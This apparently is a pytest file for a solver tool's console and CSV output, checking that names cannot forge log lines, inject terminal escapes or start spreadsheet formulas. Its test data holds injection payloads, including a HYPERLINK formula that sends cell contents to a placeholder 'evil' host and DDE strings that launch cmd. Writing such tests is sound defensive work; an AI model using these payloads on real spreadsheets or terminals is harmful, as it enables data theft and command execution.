# SPDX-License-Identifier: GPL-3.0-or-later
"""What is said on a console or written into a table is what it is about, whatever things are called and whoever reads it."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from solver_core.bake.certificate_page import escape
from solver_core.io.tables import table
from solver_core.process.console import one_line, tell
from solver_core.validation.findings import SceneError, SceneProblem

ROOT = Path(__file__).resolve().parents[3]
FORGED = "x\nstiction: Baked frames 1 to 250\r\n\x1b]0;owned\x07\x1b[2Jy\x9b31m"
ODD = [FORGED, "a\u2028b", "a\u2029b", "a\x85b", "\u202egnp.exe", "\u2066x", "tab\there", "nul\0", "half \ud83d", "\x7f"]


@pytest.mark.parametrize("name", ODD)
def test_a_name_stays_in_its_line_and_steers_nothing(name):
    said = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
    tell(f"stiction: warning: {one_line(name)}: gap", said)
    said.seek(0)
    text = said.read()
    assert text.count("\n") == 1 and len(text.splitlines()) == 1
    assert all(letter.isprintable() for letter in text[:-1])
    assert len(str(SceneError((SceneProblem(name, "mass", "is 0"),))).splitlines()) == 1
    assert all(letter.isprintable() for letter in escape(name))


@pytest.mark.parametrize("name", ["Würfel", "積木😀", "👩\u200d🚀", "\u0645\u06cc\u200c\u062e", "a b", "C:\\new", "%s {0}"])
def test_a_name_that_can_be_seen_is_said_as_it_is(name):
    assert one_line(name) == name


def test_a_message_of_several_lines_forges_no_other(capsys):
    tell("stiction: error: 2 problems\nstiction: Baked frames 1 to 250\r\nx", sys.stdout)
    first, *more = capsys.readouterr().out.splitlines()
    assert first == "stiction: error: 2 problems" and all(line.startswith("  ") for line in more)


def said_with(code, **environment):
    code = f"import sys; from solver_core.process.console import prepare_streams, tell; prepare_streams(); {code}"
    command = [sys.executable, "-c", code]
    return subprocess.run(command, cwd=ROOT, env=os.environ | environment, capture_output=True, check=False)


@pytest.mark.parametrize(
    "environment",
    [
        {"PYTHONIOENCODING": "cp1252", "PYTHONUTF8": "0"},
        {"PYTHONIOENCODING": "ascii"},
        {"PYTHONIOENCODING": "latin-1:strict"},
        {"LC_ALL": "C", "LANG": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"},
    ],
)
def test_letters_that_the_output_does_not_have_are_escaped(environment):
    name = ascii("積木 é")
    done = said_with(f"tell({name}, sys.stdout); tell({name}, sys.stderr); print({name})", **environment)
    assert done.returncode == 0
    assert b"\\u7a4d\\u6728" in done.stdout and b"\\u7a4d" in done.stderr


@pytest.mark.skipif(sys.platform == "win32", reason="a shell is needed that closes descriptors")
@pytest.mark.parametrize("closed", [">&-", "2>&-", ">&- 2>&-", "<&- >&- 2>&-"])
def test_no_file_becomes_standard_output_where_that_was_closed(closed, tmp_path):
    file = tmp_path / "cache"
    code = (
        "import os, sys; from solver_core.process.console import prepare_streams, tell; prepare_streams();"
        f"file = open({str(file)!r}, 'wb'); tell('x', sys.stdout); tell('y', sys.stderr);"
        "os.write(1, b'from C'); os.write(2, b'C')"
    )
    assert subprocess.run(f'"{sys.executable}" -c "{code}" {closed}', shell=True, cwd=ROOT, check=False).returncode == 0
    assert file.read_bytes() == b""


@pytest.mark.skipif(sys.platform == "win32", reason="pipes end otherwise there")
def test_a_closed_pipe_ends_nothing():
    code = (
        "import os; from solver_core.process.console import tell; import sys;"
        + "tell('x', sys.stdout);" * 3
        + "tell('end', sys.stderr)"
    )
    read, write = os.pipe()
    os.close(read)
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, stdout=write, stderr=subprocess.PIPE, check=False)
    os.close(write)
    assert (done.returncode, done.stderr.strip()) == (0, b"end")


FORMULAS = ["=1+1", '=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3+cmd|' /C calc'!A0"]
FORMULAS += ["\t=1+1", "\r=1+1", "\N{FULLWIDTH EQUALS SIGN}1+1", "-\N{ARABIC-INDIC DIGIT ONE}", "=", "-a"]


@pytest.mark.parametrize("name", FORMULAS)
def test_no_cell_begins_as_a_formula(name):
    (row,) = list(csv.reader(io.StringIO(table(["name", "time"], [[name, -0.5]]).decode())))[1:]
    assert row[0][0] in ("'", "\\") and row[1] == "-0.5"


@pytest.mark.parametrize("name", ["Box", "a=b", "'quoted'", "Kiste, rot", 'die "eine"', "-5", "+1e-7", "1 + 1"])
def test_other_words_and_numbers_are_cells_as_they_are(name):
    (row,) = list(csv.reader(io.StringIO(table(["name", "none", "n"], [[name, None, 3]]).decode())))[1:]
    assert row == [name, "", "3"]


@pytest.mark.parametrize("name", ODD)
def test_a_row_is_a_line_whatever_is_in_it(name):
    text = table(["name", "time"], [[name, 1.5], [name, 2.5]]).decode()
    assert len(text.splitlines()) == 3 and all(letter.isprintable() for letter in text.replace("\n", ""))
